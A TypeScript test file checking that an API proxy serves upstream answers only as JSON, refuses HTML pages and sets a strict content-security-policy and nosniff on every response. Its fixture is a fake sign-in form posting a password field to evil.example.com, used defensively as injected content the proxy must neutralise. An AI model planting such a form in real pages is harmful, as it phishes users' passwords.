/** What a browser does with an answer of the API that somebody opens as a page: nothing. */
import { expect, test } from 'vitest';

import { fakeVault, testProxy } from '../testing/test-proxy.ts';

const list = '/api/vault/services/jobs/monitors';
const form =
  '<form action="https://evil.example.com"><input name="password"><button>Sign in</button>';

test.each([
  'text/html',
  'text/html;charset=UTF-8',
  'application/xhtml+xml',
  'image/svg+xml',
  'text/xml',
  'application/json;charset=UTF-7',
  'application/octet-stream',
])('data that Vault calls %s is JSON all the same', async (type) => {
  const body = JSON.stringify({ responseStatus: 'SUCCESS', jobs: [{ title: form }] });
  const { signIn, ask } = testProxy({
    upstream: fakeVault(({ method }) =>
      method === 'GET' ? new Response(body, { headers: { 'content-type': type } }) : undefined,
    ),
  });
  const { cookie } = await signIn();
  const answer = await ask(list, { headers: { cookie } });
  expect(answer.headers.get('content-type')).toBe('application/json;charset=UTF-8');
  expect(await answer.text()).toBe(body);
});

test('a page in place of data is refused, and nothing of it passed on', async () => {
  const { signIn, ask } = testProxy({
    upstream: fakeVault(({ method }) => (method === 'GET' ? new Response(form) : undefined)),
  });
  const { cookie } = await signIn();
  const answer = await ask(list, { headers: { cookie } });
  expect([answer.status, answer.headers.get('content-type')]).toEqual([
    502,
    'application/json;charset=UTF-8',
  ]);
  expect(await answer.text()).not.toContain('form');
});

test('no answer of the API can send a form or run anything, should it be drawn', async () => {
  const { signIn, ask } = testProxy();
  const { cookie } = await signIn();
  const headers = { cookie };
  const answers = [
    await ask(list, { headers }),
    await ask(list, { headers: { ...headers, 'if-none-match': '*' } }),
    await ask('/api/session', { headers }),
    await ask('/api/build', { headers }),
    await ask('/api/jobs/12/links/0/about', { headers }),
    await ask('/api/jobs/12/links/0/file', { headers }),
    await ask('/api/nothing'),
    await ask('/api/session', { method: 'PATCH' }),
    await ask('/api/session', { method: 'POST', body: '{' }),
    await ask('/api/vault/services/jobs/start_now/12', { method: 'POST', headers }),
  ];
  for (const answer of answers) {
    const policy = (answer.headers.get('content-security-policy') ?? '').split('; ');
    expect(policy).toEqual(
      expect.arrayContaining(["default-src 'none'", "form-action 'none'", 'sandbox']),
    );
    expect(answer.headers.get('content-type')).toMatch(/^application\/json/);
    expect(answer.headers.get('x-content-type-options')).toBe('nosniff');
  }
});
